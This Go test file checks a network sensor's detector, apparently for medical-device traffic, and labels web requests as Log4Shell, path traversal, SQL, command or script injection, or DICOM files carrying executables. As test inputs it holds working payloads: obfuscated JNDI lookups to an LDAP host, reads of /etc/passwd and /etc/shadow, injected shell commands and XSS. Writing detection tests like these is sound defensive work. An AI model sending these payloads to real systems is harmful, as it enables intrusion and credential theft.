// SPDX-License-Identifier: Apache-2.0

package web

import (
	"fmt"
	"strings"
	"testing"

	"github.com/asepsis/asepsis/core/event"
	"github.com/asepsis/asepsis/see/sensor/analyze"
	"github.com/asepsis/asepsis/see/sensor/analyze/analyzetest"
)

func TestAttackPatternsAreNamed(t *testing.T) {
	for target, want := range map[string]string{
		// attacks
		"/?x=${jndi:ldap://192.0.2.1/a}":                   "[log4shell]",
		"/?x=%24%7Bjndi:ldap://192.0.2.1/a%7D":             "[log4shell]",
		"/?x=${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}": "[log4shell]",
		"/?x=${j${::-n}di:ldap://192.0.2.1/a}":             "[log4shell]",
		"/../../../../etc/passwd":                          "[path-traversal]",
		"/cgi/%2e%2e/%2e%2e/%2e%2e/etc/passwd":             "[path-traversal]",
		"/x?file=..%252f..%252fwindows/win.ini":            "[path-traversal]",
		"/x?file=..\\..\\boot.ini":                         "[path-traversal]",
		"/list?id=1%27%20OR%201%3D1--":                     "[sql-injection]",
		"/list?id=-1+union+select+1,2,3":                   "[sql-injection]",
		"/ping?host=127.0.0.1;cat%20/etc/shadow":           "[command-injection]",
		"/ping?host=$(id)":                                 "[command-injection]",
		"/q?s=%3Cscript%3Ealert(1)%3C/script%3E":           "[script-injection]",
		"/q?s=<img%20src=x%20onerror=alert(1)>":            "[script-injection]",
		"/a?x=../../etc/passwd&y=${jndi:dns://192.0.2.1}":  "[path-traversal log4shell]",
		// what devices, browsers and archives do
		"/": "[]",
		"/dicom-web/studies?PatientName=O%27Brien*&limit=10":          "[]",
		"/fhir/Patient?name=M%C3%BCller&_sort=-date":                  "[]",
		"/static/../logo.png":                                         "[]",
		"/report.v1..2.pdf":                                           "[]",
		"/search?q=union+of+bones&select=1":                           "[]",
		"/search?q=students;%20teachers":                              "[]",
		"/search?q=cat%20scan|dog":                                    "[]",
		"/view?template=${name}":                                      "[]",
		"/wado?requestType=WADO&studyUID=1.2.3&contentType=image/png": "[]",
		"/price?amount=$5&note=a;b":                                   "[]",
	} {
		x := &analyze.Exchange{Method: "GET", Target: target}
		if got := fmt.Sprint(suspicious(x)); got != want {
			t.Errorf("%s: %s, want %s", target, got, want)
		}
	}
	for _, x := range []*analyze.Exchange{
		{Target: "/", Request: []analyze.Header{{Name: "x-api-version", Value: "${jndi:ldap://192.0.2.1/a}"}}},
		{Target: "/", RequestBody: []byte(`{"name":"${JNDI:rmi://192.0.2.1}"}`)},
	} {
		if got := fmt.Sprint(suspicious(x)); got != "[log4shell]" {
			t.Errorf("%+v: %s", x, got)
		}
	}
}

func TestAnAttackIsNamedInTheEventWithoutItsText(t *testing.T) {
	es := httpEvents(t, analyzetest.C("GET /login?user=${jndi:ldap://192.0.2.66:1389/evil} HTTP/1.1\r\nHost: pump\r\n\r\n"), analyzetest.S("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
	d := es[0].Detail.(*event.HTTP)
	if fmt.Sprint(d.Suspicious) != "[log4shell]" || strings.Contains(fmt.Sprintf("%+v %+v", es[0], d), "evil") {
		t.Errorf("%+v", d)
	}
}

func FuzzSuspicious(f *testing.F) {
	f.Add("/?x=%24%7Bjndi:ldap://a%7D", "v", []byte("b"))
	f.Fuzz(func(t *testing.T, target, value string, body []byte) {
		got := suspicious(&analyze.Exchange{Target: target, Request: []analyze.Header{{Name: "a", Value: value}}, RequestBody: body})
		if len(got) > 5 {
			t.Error(got)
		}
	})
}

func TestADICOMFileThatIsAProgramIsNamed(t *testing.T) {
	part := func(preamble string) string {
		return "--b\r\ncontent-type: application/dicom\r\n\r\n" + preamble + strings.Repeat("\x00", 128-len(preamble)) + "DICM\x02\x00\x00\x00UL\x04\x00\x00\x00\x00\x00\r\n"
	}
	stow := []analyze.Header{{Name: "content-type", Value: `multipart/related; type="application/dicom"; boundary=b`}}
	for name, c := range map[string]struct {
		x    analyze.Exchange
		want string
	}{
		"an empty preamble":           {analyze.Exchange{Request: stow, RequestBody: []byte(part(""))}, "[]"},
		"a dual-use TIFF":             {analyze.Exchange{Request: stow, RequestBody: []byte(part("II*\x00\x10\x00\x00\x00"))}, "[]"},
		"a program for Windows":       {analyze.Exchange{Request: stow, RequestBody: []byte(part("MZ\x90\x00"))}, "[executable-preamble]"},
		"the second file is one":      {analyze.Exchange{Request: stow, RequestBody: []byte(part("") + part("\x7fELF\x02"))}, "[executable-preamble]"},
		"it is fetched":               {analyze.Exchange{Response: stow, ResponseBody: []byte(part("#!/bin/sh\n"))}, "[executable-preamble]"},
		"a program that is no DICOM":  {analyze.Exchange{Request: stow, RequestBody: []byte("MZ" + strings.Repeat("\x00", 300))}, "[]"},
		"a page that speaks of files": {analyze.Exchange{ResponseBody: []byte(part("MZ"))}, "[]"},
		"too short for a preamble":    {analyze.Exchange{Request: stow, RequestBody: []byte("MZ" + strings.Repeat("\x00", 100) + "DICM" + strings.Repeat("\x00", 100))}, "[]"},
	} {
		if got := fmt.Sprint(suspicious(&c.x)); got != c.want {
			t.Errorf("%s: %s, want %s", name, got, c.want)
		}
	}
}
